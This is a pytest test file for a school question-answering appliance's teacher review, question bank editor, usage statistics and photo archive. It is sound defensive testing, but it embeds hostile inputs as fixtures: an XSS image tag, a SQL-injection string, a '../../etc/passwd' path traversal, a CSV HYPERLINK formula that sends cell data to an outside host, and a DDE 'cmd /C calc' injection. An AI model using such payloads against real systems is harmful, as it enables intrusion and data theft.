"""Teacher review: ask-log filters, approve/correct into the bank, bank editor, usage
figures, photo archive. No encoder needed: asks are written with a fixed clock."""

from __future__ import annotations

from datetime import date, datetime, timezone
from zoneinfo import ZoneInfo

import pytest

from appliance.asklog.log import AskLog, AskRecord
from appliance.bank.bank_editor import BankEditor, BankEntryError, UnknownEntry, make_entry
from appliance.bank.bank_file import BankEntry, BankFileError
from appliance.bank.kb import BankImportRejected, QuestionBank
from appliance.asklog.review import (
    AskFilter,
    Correction,
    PhotoArchive,
    ReviewError,
    ReviewService,
    UnknownAsk,
    day_bounds,
    local_text,
    parse_points,
)
from appliance.db.store import Store
from appliance.asklog.usage import UNMATCHED, UsageError, usage

SHANGHAI = ZoneInfo("Asia/Shanghai")


def entry(eid, subject, question, answer, points=()):
    return BankEntry(eid, subject, "七年级", question, answer, tuple(points), "课本")


@pytest.fixture
def world(tmp_path):
    store = Store(tmp_path / "eduqa.db")
    bank = QuestionBank(store)
    bank.upsert([entry("m1", "math", "解方程：2x + 3 = 13", "x = 5", ["一元一次方程"]),
                 entry("p1", "physics", "水的沸点是多少", "100 ℃", ["沸点"])], "import")
    times = iter([
        "2026-11-29T15:30:00.000Z",  # 23:30 on the 29th in Shanghai
        "2026-11-29T16:10:00.000Z",  # 00:10 on the 30th in Shanghai
        "2026-11-30T01:05:00.000Z",
        "2026-11-30T01:45:00.000Z",
        "2026-11-30T09:00:00.000Z",
    ])
    log = AskLog(store, clock=lambda: next(times))
    rec = lambda q, m, c, a, kind="text": log.record(AskRecord(  # noqa: E731
        client="10.0.0.7", kind=kind, question=q, truncated=False, matched_id=m, confidence=c,
        abstained=a, stage_ms={}, backend="test"))
    ids = [rec("解方程：2x + 3 = 13", "m1", 0.99, False),
           rec("水的沸点", "p1", 0.81, False),
           rec("明朝是哪一年建立的", None, 0.21, True),
           rec("<img src=x onerror=alert(1)>", None, 0.05, True, kind="photo"),
           rec("水的沸点是多少度", "p1", 0.64, False)]
    log.close()
    log.set_feedback(ids[0], "up")
    log.set_feedback(ids[4], "down")
    yield store, bank, ids
    store.close()


def ask_ids(rows):
    return [r.ask_id for r in rows]


def test_filters(world):
    store, bank, ids = world
    review = ReviewService(store, bank)
    everything = review.list_asks(AskFilter())
    assert ask_ids(everything) == [ids[3], ids[2], ids[4], ids[1], ids[0]]  # least confident first
    assert ask_ids(review.list_asks(AskFilter(order="newest"))) == ids[::-1]
    assert ask_ids(review.list_asks(AskFilter(abstained=True))) == [ids[3], ids[2]]
    assert ask_ids(review.list_asks(AskFilter(abstained=False, order="newest"))) == [ids[4], ids[1], ids[0]]
    assert ask_ids(review.list_asks(AskFilter(subject="physics"))) == [ids[4], ids[1]]
    assert ask_ids(review.list_asks(AskFilter(confidence_below=0.7))) == [ids[3], ids[2], ids[4]]
    assert ask_ids(review.list_asks(AskFilter(feedback="up"))) == [ids[0]]
    assert ask_ids(review.list_asks(AskFilter(feedback="down"))) == [ids[4]]
    assert len(review.list_asks(AskFilter(feedback="none"))) == 3
    assert ask_ids(review.list_asks(AskFilter(text="沸点", order="newest"))) == [ids[4], ids[1]]
    assert ask_ids(review.list_asks(AskFilter(text="' OR 1=1 --"))) == []
    assert len(review.list_asks(AskFilter(limit=2))) == 2
    row = review.get(ids[0])
    assert row.subject == "math" and row.feedback == "up" and row.review_status == "pending"


def test_date_range_is_in_the_school_time_zone(world):
    store, bank, ids = world
    review = ReviewService(store, bank)
    since, until = day_bounds(date(2026, 11, 30), date(2026, 11, 30), SHANGHAI)
    assert (since, until) == ("2026-11-29T16:00:00.000Z", "2026-11-30T16:00:00.000Z")
    on_30th = review.list_asks(AskFilter(since=since, until=until, order="newest"))
    assert ask_ids(on_30th) == [ids[4], ids[3], ids[2], ids[1]]  # not the 23:30 one on the 29th
    since, _ = day_bounds(date(2026, 11, 30), None, timezone.utc)
    assert len(review.list_asks(AskFilter(since=since))) == 3
    assert local_text("2026-11-29T16:10:00.000Z", SHANGHAI) == "2026-11-30 00:10:00"


def test_bad_filters_are_refused(world):
    store, bank, _ = world
    review = ReviewService(store, bank)
    for bad in (AskFilter(feedback="meh"), AskFilter(status="done"), AskFilter(order="random"),
                AskFilter(confidence_below=2.0)):
        with pytest.raises(ReviewError):
            review.list_asks(bad)
    with pytest.raises(UnknownAsk):
        review.get(999)


def test_approve_and_correct_without_bank(world):
    store, bank, ids = world
    review = ReviewService(store, bank)
    assert review.approve(ids[0], "alice").status == "approved"
    assert review.get(ids[0]).review_status == "approved"
    version = bank.version()
    done = review.correct(ids[1], Correction(answer="100 ℃（标准大气压下）", target="none"), "alice")
    assert (done.status, done.entry_id) == ("corrected", None)
    row = review.get(ids[1])
    assert row.review_status == "corrected" and row.teacher_answer == "100 ℃（标准大气压下）"
    assert bank.version() == version  # the bank is untouched
    with pytest.raises(ReviewError, match="answer"):
        review.correct(ids[1], Correction(answer="   "), "alice")
    with pytest.raises(UnknownAsk):
        review.approve(999, "alice")
    assert ask_ids(review.list_asks(AskFilter(status="approved"))) == [ids[0]]


def test_correct_into_a_new_bank_entry(world):
    store, bank, ids = world
    review = ReviewService(store, bank)
    version = bank.version()
    done = review.correct(ids[2], Correction(answer="1368 年，朱元璋建立明朝。", knowledge_points=("明朝", "朱元璋"),
                                             subject="History", grade="七年级"), "alice")
    assert done == type(done)(ids[2], "added", f"ask-{ids[2]}")
    new = bank.get_many([f"ask-{ids[2]}"])[f"ask-{ids[2]}"]
    assert new["question"] == "明朝是哪一年建立的" and new["answer"].startswith("1368")
    assert new["subject"] == "history" and new["knowledge_points"] == ["明朝", "朱元璋"]
    assert new["origin"] == "teacher"
    assert bank.version() > version  # caches and the dense index follow
    assert review.get(ids[2]).review_status == "added"
    with pytest.raises(ReviewError, match="subject"):
        review.correct(ids[3], Correction(answer="x"), "alice")


def test_correct_the_matched_entry(world):
    store, bank, ids = world
    review = ReviewService(store, bank)
    done = review.correct(ids[4], Correction(answer="标准大气压下 100 ℃", target="matched"), "alice")
    assert done.entry_id == "p1"
    p1 = bank.get_many(["p1"])["p1"]
    assert p1["answer"] == "标准大气压下 100 ℃" and p1["question"] == "水的沸点是多少"
    assert p1["knowledge_points"] == ["沸点"] and p1["subject"] == "physics"
    with pytest.raises(ReviewError, match="not matched"):
        review.correct(ids[2], Correction(answer="x", target="matched"), "alice")
    with pytest.raises(ReviewError, match="target"):
        review.correct(ids[2], Correction(answer="x", subject="history", target="elsewhere"), "alice")


def test_parse_points():
    assert parse_points("一元一次方程; 移项、等式性质，x\n y;;") == ("一元一次方程", "移项", "等式性质", "x", "y")
    assert parse_points("") == ()


def test_bank_editor(world, tmp_path):
    store, bank, _ = world
    editor = BankEditor(store, bank)
    assert [e["id"] for e in editor.search("沸点")] == ["p1"]
    assert [e["id"] for e in editor.search("", "math")] == ["m1"]
    assert editor.search("一元一次")[0]["knowledge_points"] == ("一元一次方程",)
    assert editor.subjects() == ["math", "physics"]
    saved = editor.save({"id": "m2", "subject": "Math", "question": "3x = 12", "answer": "x = 4",
                         "knowledge_points": "方程; 除法"}, "alice")
    assert saved.knowledge_points == ("方程", "除法")
    assert bank.get_many(["m2"])["m2"]["origin"] == "teacher"
    version = bank.version()
    editor.delete("m2", "alice")
    assert bank.get_many(["m2"]) == {} and bank.version() == version + 1
    with pytest.raises(UnknownEntry):
        editor.delete("m2", "alice")
    with pytest.raises(UnknownEntry):
        editor.get("nope")
    for bad in ({"id": "", "subject": "m", "question": "q", "answer": "a"},
                {"id": "has space", "subject": "m", "question": "q", "answer": "a"},
                {"id": "ok", "subject": "m", "question": "q", "answer": "a" * 20001},
                {"id": "ok", "subject": "m", "question": "q", "answer": "a", "knowledge_points": ";".join("abcdefghijk")}):
        with pytest.raises(BankEntryError):
            make_entry(bad)


def test_bank_editor_import_reports_bad_rows(world, tmp_path):
    store, bank, _ = world
    editor = BankEditor(store, bank)
    good = tmp_path / "good.csv"
    good.write_text("id,subject,grade,question,answer,knowledge_points,source\n"
                    "c1,chem,,H2O 是什么,水,物质,\n", encoding="utf-8")
    assert editor.import_file(good, skip_bad=False).inserted == 1
    bad = tmp_path / "bad.csv"
    bad.write_text("id,subject,grade,question,answer,knowledge_points,source\n"
                   "c2,chem,,CO2 是什么,二氧化碳,,\n"
                   "c3,chem,,,没有题目,,\n", encoding="utf-8")
    with pytest.raises(BankImportRejected) as rejected:
        editor.import_file(bad, skip_bad=False)
    assert [(p.line, p.entry_id) for p in rejected.value.problems] == [(3, "c3")]
    assert bank.get_many(["c2"]) == {}
    summary = editor.import_file(bad, skip_bad=True)
    assert summary.inserted == 1 and len(summary.skipped) == 1
    wrong = tmp_path / "wrong.csv"
    wrong.write_text("a,b\n1,2\n", encoding="utf-8")
    with pytest.raises(BankFileError):
        editor.import_file(wrong, skip_bad=True)
    out = tmp_path / "out.csv"
    assert editor.export(out) == bank.count()


def test_usage_figures(world):
    store, bank, _ = world
    figures = usage(store, None, None, SHANGHAI, "day")
    assert (figures.total, figures.abstained) == (5, 2)
    assert [(b.start, b.asks, b.abstained) for b in figures.over_time] == [("2026-11-29", 1, 0), ("2026-11-30", 4, 2)]
    assert figures.over_time[1].abstain_rate == 0.5
    assert dict(figures.by_subject) == {"physics": 2, UNMATCHED: 2, "math": 1}
    assert dict(figures.confidence) == {"0.0-0.1": 1, "0.1-0.2": 0, "0.2-0.3": 1, "0.3-0.4": 0, "0.4-0.5": 0,
                                        "0.5-0.6": 0, "0.6-0.7": 1, "0.7-0.8": 0, "0.8-0.9": 1, "0.9-1.0": 1}
    hourly = usage(store, "2026-11-30T00:00:00.000Z", "2026-11-30T02:00:00.000Z", SHANGHAI, "hour")
    assert [(b.start, b.asks) for b in hourly.over_time] == [("2026-11-30 09:00", 2)]
    gaps = usage(store, "2026-11-29T16:00:00.000Z", None, SHANGHAI, "hour")
    assert len(gaps.over_time) == 18 and gaps.over_time[1].asks == 0  # 00:00..17:00, empty hours are 0
    with pytest.raises(UsageError):
        usage(store, None, None, SHANGHAI, "week")


def test_photo_archive(tmp_path):
    archive = PhotoArchive(tmp_path / "photos")
    jpeg = b"\xff\xd8\xff\xe0" + b"0" * 100
    sha = archive.save(jpeg)
    assert archive.find(sha).read_bytes() == jpeg and archive.find(sha).suffix == ".jpg"
    assert archive.save(jpeg) == sha and len(list((tmp_path / "photos").iterdir())) == 1
    assert archive.find("../../etc/passwd") is None and archive.find(None) is None
    assert archive.find("0" * 64) is None


def test_timestamps_round_trip():
    from appliance.asklog.review import parse_utc, utc_iso

    moment = datetime(2026, 11, 30, 1, 2, 3, 456000, tzinfo=timezone.utc)
    assert parse_utc(utc_iso(moment)) == moment


@pytest.mark.parametrize("question", ['=HYPERLINK("http://x/?"&A2,"answer")', "@SUM(A1:A2)", "-1+2", "+1"])
def test_every_ask_log_csv_export_writes_formulas_as_text(tmp_path, question):  # issue 12, F4
    import csv

    store = Store(tmp_path / "eduqa.db")
    log = AskLog(store)
    log.record(AskRecord(client="=cmd|' /C calc'!A0", kind="text", question=question, truncated=False,
                         matched_id=None, confidence=0.1, abstained=True, stage_ms={}, backend="b"))
    log.export_csv(tmp_path / "cli.csv")
    with (tmp_path / "cli.csv").open(encoding="utf-8", newline="") as fh:
        row = list(csv.reader(fh))[1]
    assert "'" + question in row and "'=cmd|' /C calc'!A0" in row
    log.close()
    store.close()
